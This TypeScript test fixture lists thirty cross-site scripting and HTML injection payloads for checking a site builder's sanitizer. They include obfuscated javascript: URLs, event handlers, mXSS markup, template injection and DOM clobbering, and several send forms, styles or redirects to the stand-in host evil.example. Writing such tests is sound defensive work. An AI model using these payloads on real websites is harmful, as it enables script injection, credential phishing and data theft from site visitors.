// What was thrown at builders of sites: thirty ways for a text to become a program, a request or another page.

/** Calls `ran`, which the browser of the tests counts. */
const run = 'window.ran(1)'
/** A server that must hear nothing. */
const away = 'https://evil.example'

/** By number, what each tries, and the text itself. */
export const payloads: Readonly<Record<string, readonly [what: string, text: string]>> = {
  A1: ['a script', `<script>${run}</script>`],
  A2: ['a picture that fails', `<img src=x onerror=${run}>`],
  A3: ['out of an attribute', `" autofocus onfocus="${run}" x="`],
  A4: ['out of an attribute of single quotes', `' onmouseover='${run}`],
  A5: ['a drawing that loads', `</p><svg onload=${run}><animate onbegin=${run} attributeName=x dur=1s>`],
  A6: ['an address that is a program', `javascript:${run}`],
  A7: ['the same with a tab in it', `jav\tascript:${run}`],
  A8: ['the same with an entity', `jav&#x09;ascript:${run}`],
  A9: ['the same in capitals after a control character', `\u0001JaVaScRiPt:${run}`],
  A10: ['a document as an address', `data:text/html,<script>parent.ran(1)</script>`],
  A11: ['another program as an address', `vbscript:${run}`],
  A12: ['a frame with a document', `<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>`],
  A13: ['another base', `<base href="${away}/">`],
  A14: ['a page that leaves', `<meta http-equiv="refresh" content="0;url=${away}/">`],
  A15: ['a form for another server', `<form action="${away}/"><button>登录</button></form>`],
  A16: ['a button that takes the form away', `<button formaction="${away}/">检索</button>`],
  A17: ['a style that asks', `<style>*{background:url(${away}/s)}</style>`],
  A18: ['out of a style', `</style><script>${run}</script><style>`],
  A19: ['over the whole page', `<div style="position:fixed;inset:0;z-index:9999">登录</div>`],
  A20: ['out of structured data', `</script><script>${run}</script>`],
  A21: ['half a comment', `<!--><img src=x onerror=${run}>-->`],
  A22: ['out of the title', `</title></textarea></noscript><script>${run}</script>`],
  A23: ['markup that is read in two ways', `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`],
  A24: ['out of a raw text', `<xmp><p title="</xmp><script>${run}</script>">`],
  A25: ['a script of the builder', `<div data-gjs-type="script" data-gjs-script="${run}">x</div>`],
  A26: ['a template', `{{constructor.constructor('${run}')()}} \${${run}}`],
  A27: ['an object', `<object data="javascript:${run}"><embed src="javascript:${run}">`],
  A28: ['a link to another host that looks like a path', `/\\evil.example/%0d%0aset-cookie:a=b`],
  A29: ['a name of the page', `<a id=ran name=ran><form id=document name=location><input name=action>`],
  A30: ['words that turn round', `\u202e${run}\u2066<script>${run}</script>\u0000`],
}
